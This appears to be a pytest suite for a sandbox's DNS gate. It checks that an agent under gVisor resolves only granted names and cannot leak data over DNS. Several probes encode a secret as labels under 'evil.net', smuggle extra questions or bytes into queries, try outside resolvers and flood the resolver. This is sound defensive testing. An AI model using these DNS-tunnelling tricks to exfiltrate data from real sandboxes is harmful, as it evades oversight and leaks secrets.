"""Names as an agent under gVisor sees them: granted ones resolve at once, and nothing else is sent outside.

Each run is one sandbox with many probes. A refusal has its control in the same sandbox.
"""

from __future__ import annotations

import json
import os
import signal
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from policy import errors
from tests.kernel import internet
from tests.kernel.internet import Internet, NetworkedWorld
from tests.kernel.world import HEAD, TAIL

PUBLIC = "93.184.216.34"
NAMES = 100
# A question of its own making, as far as the agent wants to bend it; the answer's rcode, and its addresses.
ASK = """
import struct, time
def wire(name, kind=1, klass=1, flags=0x0100, more=b"", counts=(1, 0, 0, 0)):
    labels = b"".join(bytes([len(l)]) + l for l in (p.encode("latin-1") for p in name.split(".")) if l)
    return struct.pack("!6H", 7, flags, *counts) + labels + b"\\0" + struct.pack("!HH", kind, klass) + more
def ask(data, wait=8, transport="udp", host="192.0.0.1"):
    kind = socket.SOCK_DGRAM if transport == "udp" else socket.SOCK_STREAM
    with socket.socket(socket.AF_INET, kind) as s:
        s.settimeout(wait)
        try:
            s.connect((host, 53))
            if transport == "udp":
                s.send(data)
                said = s.recv(4096)
            else:
                s.sendall(struct.pack("!H", len(data)) + data)
                said = s.recv(4096)[2:]
        except TimeoutError:
            return "silence"
        except OSError as e:
            return errno.errorcode.get(e.errno or 0, str(e))
    if len(said) < 12:
        return "closed"
    answers = struct.unpack("!H", said[6:8])[0]
    return [said[3] & 15, answers]
"""


@pytest.fixture(scope="module")
def net() -> Iterator[Internet]:
    with internet.made() as made:
        made.run("world", "ip", "route", "add", "local", "93.187.0.0/24", "dev", "lo")
        for index in range(NAMES):
            made.resolver.zone[f"n{index}.many.example", "A"] = [f"93.187.0.{index}"]
        made.resolver.zone["text.example.com", "TXT"] = ['"secret"']
        made.resolver.zone["text.example.com", "A"] = [PUBLIC]
        yield made


@pytest.fixture
def networked(tmp_path: Path, warm: Path, net: Internet) -> Iterator[NetworkedWorld]:
    net.resolver.asked.clear()
    world = internet.configured(NetworkedWorld(tmp_path, warm=warm), net)
    yield world
    assert net.leftovers() == []


def run(networked: NetworkedWorld, code: str, more: str, **fields: Any) -> tuple[Any, set[tuple[str, str]]]:
    """Return the agent's answer, and its denials as (target, code) of the DNS gate."""
    whole = HEAD + internet.PROBES + internet.TLS_PROBE + ASK + code + TAIL
    answer = networked.run_code(whole, network="full", more=more, **fields)
    assert answer.error is None, (answer.error, answer.stderr)
    assert answer.result is not None
    kinds = [row["kind"] for row in networked.rows()]
    denied = {(k["target"], k["code"]) for k in kinds if k["type"] == "denied" and k["layer"] == "dns"}
    return json.loads(answer.result.text), denied


def test_localhost_asks_no_resolver(networked: NetworkedWorld, net: Internet) -> None:
    code = "answer = [resolve('localhost'), resolve('n1.many.example')]\n"
    answer, denied = run(networked, code, internet.entries(("*.many.example", "[80]", "tcp")))
    assert "127.0.0.1" in answer[0]
    assert answer[1] == ["93.187.0.1"]
    assert denied == set()
    assert not [one for one in net.resolver.asked if "localhost" in str(one)]


def test_connection_by_name_passes_right_after_answer(networked: NetworkedWorld) -> None:
    code = f"""
answer = []
for index in range({NAMES}):
    name, address = "n%d.many.example" % index, "93.187.0.%d" % index
    before = tcp(address, 80) if index < 10 else ""
    said = ask(wire(name))
    while said == [5, 0]:  # held to the rate
        time.sleep(0.1)
        said = ask(wire(name))
    answer.append([before, said, tcp(address, 80), tcp(address, 5432)])
"""
    answer, _ = run(networked, code, internet.entries(("*.many.example", "[80]", "tcp")))
    assert answer[:10] == [["ECONNREFUSED", [0, 1], "connected", "ECONNREFUSED"]] * 10
    assert answer[10:] == [["", [0, 1], "connected", "ECONNREFUSED"]] * (NAMES - 10)


def test_nothing_is_said_to_outside_by_asking(networked: NetworkedWorld) -> None:
    secret = "c0ffee" * 10
    hidden = ".".join([secret] * 3)
    probes = {
        "resolve('text.example.com')": [PUBLIC],
        f"resolve('{secret}.evil.net')": "gaierror -2",
        f"ask(wire('{hidden}.evil.net'))": [3, 0],
        f"ask(wire('{secret}.text.example.com'))": [3, 0],
        f"ask(wire('{secret}.evil.net', 16))": [3, 0],
        "ask(wire('text.example.com', 16))": [0, 0],
        "ask(wire('text.example.com', 10))": [0, 0],
        "ask(wire('text.example.com', 252), transport='tcp')": [0, 0],
        "ask(wire('text.example.com', 1, 3))": [5, 0],
        f"ask(wire('text.example.com') + b'{secret}')": [1, 0],
        "ask(wire('text.example.com', flags=0x2900))": [4, 0],
        "ask(wire('text.example.com', flags=0x8100), wait=1)": "silence",
        f"ask(wire('text.example.com', more=wire('{secret}.evil.net')[12:], counts=(2, 0, 0, 0)))": [1, 0],
        "ask(wire('text.example.com', flags=0xffff & ~0xf800), transport='tcp')": [0, 1],
        # Other resolvers are no way round.
        f"ask(wire('{secret}.evil.net'), host='8.8.8.8')": "ECONNREFUSED",
        f"ask(wire('{secret}.evil.net'), host='10.77.0.1')": "ECONNREFUSED",
        f"ask(wire('{secret}.evil.net'), host='8.8.8.8', transport='tcp')": "ECONNREFUSED",
        "tcp('192.0.0.1', 22)": "ECONNREFUSED",
    }
    code = "answer = [" + ", ".join(probes) + "]\n"
    answer, denied = run(networked, code, internet.entries(("text.example.com", "[80]", "tcp")))
    assert dict(zip(probes, answer, strict=True)) == probes
    assert networked.internet.resolver.names() == {"text.example.com"}
    assert {kind for _, kind, _ in networked.internet.resolver.asked} == {"A", "AAAA"}
    assert b"c0ffee" not in b"".join(networked.internet.resolver.seen).lower()
    assert {
        (f"{secret}.evil.net", "name_not_granted"),
        (f"{hidden}.evil.net", "name_not_granted"),
        ("text.example.com", "type_refused"),
        ("question: more than a question", "malformed"),
    } <= denied


def test_flood_of_questions_is_held_to_rate_and_agent_goes_on(networked: NetworkedWorld) -> None:
    code = """
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sender.connect(("192.0.0.1", 53))
until = time.monotonic() + 3
sent = 0
while time.monotonic() < until:
    sender.send(wire("n%d.many.example" % (sent % 500)))
    sent += 1
after = "nothing"
for _ in range(100):
    time.sleep(0.2)
    after = ask(wire("n1.many.example"), wait=1)
    if after == [0, 1]:
        break
answer = [sent, after]
"""
    (sent, after), denied = run(networked, code, internet.entries(("*.many.example", "[80]", "tcp")))
    assert after == [0, 1]
    assert sent > 500
    # 40 at once and 20 a second, for as long as the agent lived.
    assert len(networked.internet.resolver.asked) < 40 + 20 * 30
    # A resolver on a busy machine may be too late for one.
    assert {code for _, code in denied} - {"upstream"} == {"rate"}


def test_without_table_every_name_is_answered(networked: NetworkedWorld) -> None:
    probes = {
        "resolve('n1.many.example')": ["93.187.0.1"],
        "tcp('93.187.0.1', 80)": "connected",
        "resolve('rebind.example.com')": "gaierror -5",
        "ask(wire('text.example.com', 16))": [0, 0],
        "ask(wire('a b.example.com'))": [3, 0],
    }
    answer, denied = run(networked, "answer = [" + ", ".join(probes) + "]\n", "")
    assert dict(zip(probes, answer, strict=True)) == probes
    assert ("rebind.example.com", "rebinding") in denied


def _gates() -> list[int]:
    """The DNS gates that this process has started."""
    found = []
    for entry in filter(str.isdigit, os.listdir("/proc")):
        try:
            words = Path(f"/proc/{entry}/cmdline").read_bytes().split(b"\0")
            parent = int(Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()[1])
        except OSError:
            continue
        if parent == os.getpid() and b"sandbox.network.dns.server" in words:
            found.append(int(entry))
    return found


def test_killed_gate_ends_run(networked: NetworkedWorld) -> None:
    killed: list[int] = []

    def kill() -> None:
        until = time.monotonic() + 60
        while not networked.internet.resolver.asked and time.monotonic() < until:
            time.sleep(0.05)
        for pid in _gates():
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)

    thread = threading.Thread(target=kill)
    thread.start()
    code = HEAD + "import socket, time\nsocket.getaddrinfo('text.example.com', 80)\ntime.sleep(60)\n"
    more = internet.entries(("text.example.com", "[80]", "tcp"))
    answer = networked.run_code(code, network="full", more=more, cpu_ms=60000)
    thread.join()
    assert len(killed) == 1
    assert isinstance(answer.error, errors.GateError), answer.error
